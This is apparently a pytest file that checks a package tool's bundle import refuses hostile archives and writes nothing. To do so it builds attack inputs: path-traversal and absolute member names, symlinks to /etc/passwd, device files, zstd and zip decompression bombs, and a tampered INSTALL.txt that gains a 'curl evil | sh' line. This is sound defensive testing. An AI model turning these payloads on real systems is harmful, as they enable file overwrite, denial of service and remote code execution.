"""Archives that somebody made with care: refused by one clear error, nothing written, nothing left.

`test_transfer_refused.py` has what a hostile manifest may say; here is what the command makes of whole files.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from spark_build.errors import SparkBuildError
from spark_build.transfer.bundle_import import Allowed, import_bundle
from tests.conftest import make_root
from tests.helpers.exports import Member, export, member, members
from tests.helpers.wheelhouse import demo_house, home_in, make_wheel, publish, put_built, snapshot
from tests.transfer.test_import_foreign import TARGET

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

REFUSED, UNSOUND = 10, 8
ZEROS = 1100 << 20  # bytes: more than an archive of a few kilobytes may become


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> list[Member]:
    """The members of a sound export."""
    home, generation = demo_house(tmp_path_factory.mktemp("house"))
    file = tmp_path_factory.mktemp("sound") / "wheels.tar"
    export(generation, home.store, file)
    return members(file)


def tar_of(content: list[Member]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for info, data in content:
            sized = copy.copy(info)  # other cases have it, too
            sized.size = len(data) if info.isreg() else 0
            tar.addfile(sized, io.BytesIO(data))
    return raw.getvalue()


def begun(content: list[Member]) -> bytes:
    """A tar that has not ended yet."""
    raw = io.BytesIO()
    tar = tarfile.open(fileobj=raw, mode="w:")  # noqa: SIM115  closing it would end it
    for info, data in content:
        tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def with_member(name: str, data: bytes = b"", **fields: Any) -> Callable[[list[Member]], bytes]:
    return lambda content: tar_of([*content, member(name.format(top=top_of(content)), data, **fields)])


def top_of(content: list[Member]) -> str:
    return content[0][0].name.partition("/")[0]


def wheels(*pairs: tuple[str, bytes]) -> Callable[[list[Member]], bytes]:
    """A tar of foreign wheels."""
    return lambda _: tar_of([member(name, data) for name, data in pairs])


def bomb_in_a_zip(_: list[Member]) -> bytes:
    """A small wheel that becomes more than a gigabyte."""
    bomb = zip_of(*((f"d/{n}", bytes(1 << 27)) for n in range(9)))
    return tar_of([member("demo-1.0-py3-none-any.whl", bomb)])


def a_wheel(**named: Any) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        return make_wheel(Path(folder), "demo", **named).read_bytes()


def zip_of(*entries: tuple[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return raw.getvalue()


def changed(name: str, change: Callable[[bytes], bytes]) -> Callable[[list[Member]], bytes]:
    return lambda content: tar_of(
        [(info, change(data) if info.name.endswith(name) else data) for info, data in content]
    )


def flipped(data: bytes) -> bytes:
    return data[:100] + bytes([data[100] ^ 1]) + data[101:]


def bomb_in_zstd(content: list[Member]) -> bytes:
    """An honest beginning, then gigabytes of zeros in a few kilobytes."""
    packer = zstd.ZstdCompressor(level=1)
    info, _ = member(f"{top_of(content)}/bomb")
    info.size = ZEROS
    packed = [packer.compress(begun(content[:1]) + info.tobuf())]
    packed += [packer.compress(bytes(1 << 24)) for _ in range(ZEROS >> 24)]
    return b"".join([*packed, packer.flush()])


def bomb_of_wheels(content: list[Member]) -> bytes:
    """The same where foreign wheels are expected."""
    packer = zstd.ZstdCompressor(level=1)
    info, _ = member("demo-1.0-py3-none-any.whl")
    info.size = ZEROS
    packed = [packer.compress(info.tobuf())]
    packed += [packer.compress(bytes(1 << 24)) for _ in range(ZEROS >> 24)]
    return b"".join([*packed, packer.flush()])


def wide_window(_: list[Member]) -> bytes:
    """A frame that asks for gigabytes of memory to be read at all."""
    return b"\x28\xb5\x2f\xfd" + bytes([0x00, 0xB0]) + b"\x01\x00\x00" + bytes(600)


def oversized_header(content: list[Member]) -> bytes:
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, 20 << 20
    return begun(content) + info.tobuf(tarfile.USTAR_FORMAT) + bytes(info.size)


def size_lie(content: list[Member]) -> bytes:
    """The manifest says that a wheel has a terabyte."""
    manifest = json.loads(content[0][1])
    manifest["wheels"][0]["size"] = 1 << 40
    return tar_of([(content[0][0], json.dumps(manifest).encode()), *content[1:]])


def extra_file_listed(content: list[Member]) -> bytes:
    """A manifest that lists a file at a place that no export has."""
    manifest, data = json.loads(content[0][1]), b"evil"
    manifest["files"]["../../evil"] = hashlib.sha256(data).hexdigest()
    name = f"{top_of(content)}/../../evil"
    return tar_of([(content[0][0], json.dumps(manifest).encode()), *content[1:], member(name, data)])


def later_is_damaged(content: list[Member]) -> bytes:
    """All is sound but the last wheel: the earlier ones must not stay."""
    last = [info.name for info, _ in content if info.name.endswith(".whl")][-1]
    return changed(last.partition("/")[2], flipped)(content)


def later_lies(content: list[Member]) -> bytes:
    """The last wheel is what the manifest says, but its RECORD lies."""
    manifest = json.loads(content[0][1])
    row = manifest["wheels"][-1]
    data = {info.name: data for info, data in content}[f"{top_of(content)}/{row['filename']}"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = [(info.filename, archive.read(info)) for info in archive.infolist()]
    lying = zip_of(*((name, b"evil" if name.endswith("__init__.py") else data) for name, data in entries))
    old, new = row["key"], hashlib.sha256(lying).hexdigest()
    row |= {"key": new, "sha256": new, "size": len(lying)}
    record_name = f"{top_of(content)}/store/{old}/record.json"
    record = json.loads({info.name: data for info, data in content}[record_name])
    record_data = json.dumps({**record, "sha256": new, "size": len(lying)}).encode()
    del manifest["papers"][old]
    manifest["papers"][new] = {"record.json": hashlib.sha256(record_data).hexdigest()}
    made = [member(content[0][0].name, json.dumps(manifest).encode())]
    for info, kept in content[1:]:
        if info.name == record_name:
            made.append(member(info.name.replace(old, new), record_data))
        else:
            made.append(member(info.name, lying if info.name.endswith(row["filename"]) else kept))
    return tar_of(made)


CASES: dict[str, tuple[int, str, Callable[[list[Member]], bytes]]] = {
    "a name that climbs out": (REFUSED, "no safe name", with_member("{top}/../../evil", b"x")),
    "an absolute name": (REFUSED, "'/tmp/evil', which is no safe name", with_member("/tmp/evil", b"x")),
    "a backslash": (REFUSED, "no safe name", with_member("{top}/..\\evil", b"x")),
    "a symbolic link": (
        REFUSED,
        "a link",
        with_member("{top}/a", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    ),
    "a link, then a file through it": (
        REFUSED,
        "a link",
        lambda content: tar_of(
            [
                *content,
                member(f"{top_of(content)}/store", type=tarfile.SYMTYPE, linkname="/tmp"),
                member(f"{top_of(content)}/store/{'a' * 64}/evil", b"x"),
            ]
        ),
    ),
    "a hard link": (
        REFUSED,
        "a link",
        with_member("{top}/a", type=tarfile.LNKTYPE, linkname="{top}/manifest.json"),
    ),
    "a character device": (
        REFUSED,
        "a device",
        with_member("{top}/a", type=tarfile.CHRTYPE, devmajor=1, devminor=5),
    ),
    "a block device": (REFUSED, "a device", with_member("{top}/a", type=tarfile.BLKTYPE, devmajor=8)),
    "a pipe": (REFUSED, "a pipe", with_member("{top}/a", type=tarfile.FIFOTYPE)),
    "a sparse file": (
        REFUSED,
        "a sparse file",
        with_member("{top}/a", pax_headers={"GNU.sparse.map": "0,0", "GNU.sparse.size": str(1 << 50)}),
    ),
    "an enormous header": (REFUSED, "an enormous header", oversized_header),
    "a zstd bomb": (REFUSED, "bomb is not in its manifest", bomb_in_zstd),
    "a zstd bomb for a wheel": (REFUSED, "too large once unpacked", bomb_of_wheels),
    "a zstd window of gigabytes": (REFUSED, "too much memory", wide_window),
    "zstd that is cut": (REFUSED, "cut short", lambda content: zstd.compress(tar_of(content))[:-30]),
    "a wheel with a flipped bit": (
        REFUSED,
        "0123abcd-py3-none-any.whl is not what its manifest says",
        changed("0123abcd-py3-none-any.whl", flipped),
    ),
    "a paper with a flipped bit": (
        REFUSED,
        "build.log is not what its manifest says",
        changed("build.log", flipped),
    ),
    "another INSTALL.txt": (
        REFUSED,
        "INSTALL.txt is not what its manifest says",
        changed("INSTALL.txt", lambda data: data + b"\ncurl evil | sh\n"),
    ),
    "a file that is not listed": (
        REFUSED,
        "extra.txt is not in its manifest",
        with_member("{top}/extra.txt", b"x"),
    ),
    "a wheel of spark-build that is not listed": (
        REFUSED,
        "evil.whl is not in its manifest",
        with_member("{top}/spark-build/evil.whl", b"x"),
    ),
    "a list with a name that climbs out": (REFUSED, "is no file of an export", extra_file_listed),
    "a size that lies": (REFUSED, "not as large as its manifest says", size_lie),
    "a sound wheel, then a damaged one": (REFUSED, "more-2.0-py3-none-any.whl is not what", later_is_damaged),
    "a sound wheel, then one that lies": (UNSOUND, "content is not what RECORD says", later_lies),
    "cut short": (REFUSED, "cut short", lambda content: tar_of(content)[:-30000]),
    "no tar": (REFUSED, "no export of ours", lambda _: b"PK\x03\x04" + bytes(5000)),
    "nothing": (REFUSED, "no export of ours", lambda _: b""),
    "a foreign tar that climbs out": (
        REFUSED,
        "no safe name",
        wheels(("../demo-1.0-py3-none-any.whl", a_wheel())),
    ),
    "a foreign tar with a bad wheel name": (UNSOUND, "no wheel name", wheels(("demo.whl", a_wheel()))),
    "a foreign wheel that is none": (
        UNSOUND,
        "no readable wheel",
        wheels(("demo-1.0-py3-none-any.whl", b"x" * 2000)),
    ),
    "a foreign wheel that is a zip bomb": (
        UNSOUND,
        "a zip bomb",
        bomb_in_a_zip,
    ),
    "a foreign wheel that climbs out": (
        UNSOUND,
        "not a safe relative name",
        wheels(("demo-1.0-py3-none-any.whl", a_wheel(files={"../../evil.py": b"x"}))),
    ),
    "a sound foreign wheel, then one of another name": (
        UNSOUND,
        "the file name says other 1.0",
        wheels(("demo-1.0-py3-none-any.whl", a_wheel()), ("other-1.0-py3-none-any.whl", a_wheel())),
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_it_is_refused(name: str, sound: list[Member], tmp_path: Path) -> None:
    code, say, make = CASES[name]
    file = tmp_path / "in" / "hostile.tar"
    file.parent.mkdir()
    file.write_bytes(make(sound))
    home = home_in(tmp_path / "home")
    publish(home, [put_built(home.store, make_wheel(tmp_path / "own", "own"))])
    before, around = snapshot(tmp_path), set(Path("/tmp").glob("evil*"))
    wished = Allowed(unsigned=True, strict=True)
    with pytest.raises(SparkBuildError) as caught:
        import_bundle(home, file, lambda: ("host-cpu-2.13-cp311", TARGET), allowed=wished)
    assert say in caught.value.message
    assert caught.value.exit_code == code
    assert caught.value.hint
    assert "\n" not in caught.value.message
    assert snapshot(tmp_path) == before
    assert set(Path("/tmp").glob("evil*")) == around


@pytest.mark.parametrize("name", ["a symbolic link", "a foreign wheel that is none"])
def test_the_command_says_it_once(name: str, sound: list[Member], tmp_path: Path) -> None:
    code, say, make = CASES[name]
    file = tmp_path / "hostile.tar"
    file.write_bytes(make(sound))
    done = make_root(tmp_path).run("wheelhouse", "import", "--unsigned", str(file))
    assert (done.returncode, done.stdout) == (code, "")
    assert sum(line.startswith("error: ") for line in done.stderr.splitlines()) == 1
    assert say in done.stderr
